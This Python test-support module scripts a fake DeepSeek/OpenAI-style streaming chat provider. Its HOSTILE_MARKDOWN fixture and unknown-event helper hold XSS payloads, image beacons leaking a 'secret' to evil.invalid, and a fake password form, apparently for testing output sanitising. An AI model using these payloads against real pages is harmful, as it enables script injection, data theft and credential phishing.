"""The answers a scripted provider streams, as DeepSeek and its like write them."""

import re
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from typing import Any, Literal

from tests.support.upstream_journal import Received, Usage
from tests.support.upstream_reply import Reply

HOSTILE_MARKDOWN = """\
<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">
<svg onload="window.pwned = 1"><style>body{display:none}</style></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 1"></style></mglyph></table>
<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><base href="https://evil.invalid/">
[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>)
![leak](https://evil.invalid/leak.png?q=secret) ![leak][reference] <https://evil.invalid/auto>
<form action="https://evil.invalid/"><input name=password><button>Sign in</button></form>
$\\href{javascript:window.pwned=1}{x}$ $\\htmlData{x=1}{y}$ ```html"onmouseover="window.pwned=1
<a href="https://evil.invalid/" target="_top" onclick="window.pwned = 1">x</a>
```

[reference]: https://evil.invalid/reference.png
"""


class Gate:
    """Holds an answer back after so many tokens, at each of these places, until a test lets it go on.

    An answer with a pace of its own keeps it until the last place is passed, and then comes as fast as it goes.
    """

    def __init__(self, *places: int) -> None:
        self._places = places
        self._passed = 0

    @property
    def is_open(self) -> bool:
        return self._passed >= len(self._places)

    def let_go(self) -> None:
        """On to the next place, or to the end."""
        self._passed += 1

    def open(self) -> None:
        """To the end."""
        self._passed = len(self._places)

    def wait(self, reply: Reply, token: int) -> None:
        """Where it is held after this token."""
        while token in self._places[self._passed :]:
            reply.pause(0.01)


@dataclass(frozen=True, slots=True)
class Answer:
    """Streams `text` (whole, when no stream is asked for), after `thinking`.

    Without `usage`, what it bills is counted from the messages and the text. `tells_usage=False`
    is a provider that never says; `cumulative_usage` one that says it in every chunk.
    """

    text: str = "你好！Hello from the scripted model."
    thinking: str = ""
    usage: Usage | None = None
    tells_usage: bool = True
    usage_shape: Literal["deepseek", "openai"] = "deepseek"
    cumulative_usage: bool = False
    tokens_per_second: float | None = None  # None: as fast as it goes
    first_token_after: float = 0.0
    keep_alives: int = 0  # comments sent during `first_token_after`
    finish_reason: str = "stop"
    says_done: bool = True
    unknown_events: bool = False
    cut_at: int | None = None  # byte of the body at which the connection breaks
    actual_model: str = ""  # the model that the provider says has answered
    deltas: tuple[dict[str, Any], ...] = ()  # more of the answer's pieces, after the text
    gate: Gate | None = None

    def play(self, reply: Reply, request: Received) -> None:
        request.billed = self.usage or counted(request, self.text, self.thinking)
        if request.body.get("stream"):
            self._stream(reply, request, request.billed)
        else:
            self._whole(reply, request, request.billed)

    def _stream(self, reply: Reply, request: Received, billed: Usage) -> None:
        reply.cut_at = self.cut_at
        reply.open_stream()
        self._wait_for_first_token(reply)
        reply.event(self._chunk(request, {"role": "assistant", "content": ""}))
        for number, delta in enumerate(self._deltas(), start=1):
            if self.tokens_per_second and not (self.gate and self.gate.is_open):
                reply.pause(1 / self.tokens_per_second)
            told = up_to(number, billed) if self.cumulative_usage else None
            reply.token(self._chunk(request, delta, usage=told), delta)
            request.usage_sent = told or request.usage_sent
            if self.unknown_events and number == 1:
                _send_unknown_events(reply)
            if self.gate:
                self.gate.wait(reply, number)
        reply.event(self._chunk(request, {"content": ""}, finish_reason=self.finish_reason))
        if self.tells_usage and request.wants_usage:
            reply.event(self._chunk(request, None, usage=billed))
            request.usage_sent = billed
        if self.says_done:
            reply.event(b"[DONE]")
        reply.finish()

    def _whole(self, reply: Reply, request: Received, billed: Usage) -> None:
        message = {"role": "assistant", "content": self.text}
        if self.thinking:
            message["reasoning_content"] = self.thinking
        usage = billed if self.tells_usage else None
        choice = {"index": 0, "message": message, "finish_reason": self.finish_reason}
        content = self._chunk(request, None, usage=usage)
        reply.pause(self.first_token_after)
        reply.json(200, content | {"object": "chat.completion", "choices": [choice]})
        request.text_sent, request.reasoning_sent = self.text, self.thinking
        request.usage_sent = usage

    def _wait_for_first_token(self, reply: Reply) -> None:
        for _ in range(self.keep_alives):
            reply.comment()
            reply.pause(self.first_token_after / self.keep_alives)
        if not self.keep_alives:
            reply.pause(self.first_token_after)

    def _deltas(self) -> Iterator[dict[str, Any]]:
        yield from ({"reasoning_content": piece} for piece in pieces(self.thinking))
        yield from ({"content": piece} for piece in pieces(self.text))
        yield from self.deltas

    def _chunk(
        self,
        request: Received,
        delta: Mapping[str, Any] | None,
        *,
        finish_reason: str | None = None,
        usage: Usage | None = None,
    ) -> dict[str, Any]:
        made = chunk(self.actual_model or request.model, request.number, delta, finish_reason)
        if usage:
            made["usage"] = usage.openai() if self.usage_shape == "openai" else usage.deepseek()
        return made


def chunk(model: str, number: int, delta: Mapping[str, Any] | None, finish_reason: str | None = None) -> dict[str, Any]:
    """One chunk of a stream; without `delta` its choices are empty."""
    choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish_reason}
    return {
        "id": f"scripted-{number}",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": model,
        "system_fingerprint": "fp_scripted",
        "choices": [] if delta is None else [choice],
        "usage": None,
    }


def pieces(text: str) -> list[str]:
    """The tokens a scripted model makes of `text`: a word, or two Chinese characters."""
    return re.findall(r"\s*[\u3400-\u9fff]{1,2}|\s*[^\s\u3400-\u9fff]+|\s+", text)


def counted(request: Received, text: str, thinking: str = "") -> Usage:
    """What an answer to `request` uses by the scripted model's own count."""
    messages = request.body.get("messages", [])
    prompt = sum(len(pieces(str(message.get("content")))) for message in messages)
    reasoning = len(pieces(thinking))
    return Usage(prompt=prompt, completion=reasoning + len(pieces(text)), reasoning=reasoning)


def up_to(tokens: int, billed: Usage) -> Usage:
    """`billed` as it stands when the first `tokens` of the answer are out."""
    reasoning = min(tokens, billed.reasoning)
    return replace(billed, completion=tokens, reasoning=reasoning)


def _send_unknown_events(reply: Reply) -> None:
    reply.event({"type": "execute", "code": "window.pwned = 1"}, name="execute")
    reply.event({"object": "chat.completion.extra", "html": "<script>window.pwned = 1</script>"})
    reply.event({"choices": [{"index": 1, "delta": {"audio": {"data": "AAAA"}}}]})
